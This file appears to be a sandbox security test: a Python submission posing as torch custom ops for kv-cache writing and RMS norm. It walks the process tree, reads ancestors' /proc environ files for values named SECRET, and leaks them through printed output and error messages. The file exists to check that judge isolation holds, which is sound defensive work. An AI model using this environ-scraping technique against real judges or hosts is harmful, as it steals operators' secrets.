# expect: wrong_answer
# needs: pidns|uid
# via: cli
# modes: submit, run
"""Attack: walk up the process tree (worker -> zygote -> the judge that started it) and read each
ancestor's /proc/<pid>/environ, where the judge keeps its secrets (the test starts the CLI with
PRACTICE_SECRET_CANARY in its environment). Found values go into a public case's message.

Stopped by: a pid namespace (no ancestors to see) or a dropped uid (another uid's environ is
unreadable), plus a zygote that does not pass the caller's environment on."""

import os

import torch
from torch import Tensor


def _ancestors():
    pid, seen = os.getpid(), []
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        seen.append(pid)
    return seen


def _search():
    found = [f"{k}={v}" for k, v in os.environ.items() if "SECRET" in k]
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                found += [item for item in fh.read().decode("utf-8", "replace").split("\0") if "SECRET" in item]
        except OSError:
            pass
    return " ; ".join(dict.fromkeys(found))


LEAK = _search()
print("LEAK " + LEAK, flush=True)


@torch.library.custom_op("ex100::kv_write", mutates_args=("k_cache", "v_cache"))
def kv_write(k_cache: Tensor, v_cache: Tensor, slots: Tensor, k: Tensor, v: Tensor) -> None:
    raise RuntimeError("LEAK " + (LEAK or "nothing found"))


@kv_write.register_fake
def _(k_cache, v_cache, slots, k, v):
    return None


@torch.library.custom_op("ex100::rms_norm", mutates_args=())
def rms_norm(x: Tensor, weight: Tensor, eps: float = 1e-6) -> Tensor:
    raise RuntimeError("LEAK " + (LEAK or "nothing found"))


@rms_norm.register_fake
def _(x, weight, eps=1e-6):
    return torch.empty_like(x)
